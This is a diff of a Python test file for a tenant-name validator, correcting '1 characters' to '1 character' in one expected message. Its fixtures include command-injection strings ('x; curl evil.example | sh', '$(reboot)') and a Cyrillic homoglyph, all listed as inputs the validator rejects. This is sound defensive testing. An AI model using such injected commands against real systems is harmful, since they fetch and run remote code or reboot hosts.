@@ -38,7 +38,7 @@ def respond_with_tenants(scaikey: Sandbox, *rows: Mapping[str, object]) -> None:
         ("x; curl evil.example | sh", "';' is not allowed"),
         ("$(reboot)", "'$' is not allowed"),
         ("--all", "it begins or ends with a hyphen"),
-        ("a", "it has 1 characters"),
+        ("a", "it has 1 character"),
         ("a" * 300, "it has 300 characters"),
         ("admin", "the word is reserved"),
         ("аcme", "'а' is not allowed"),
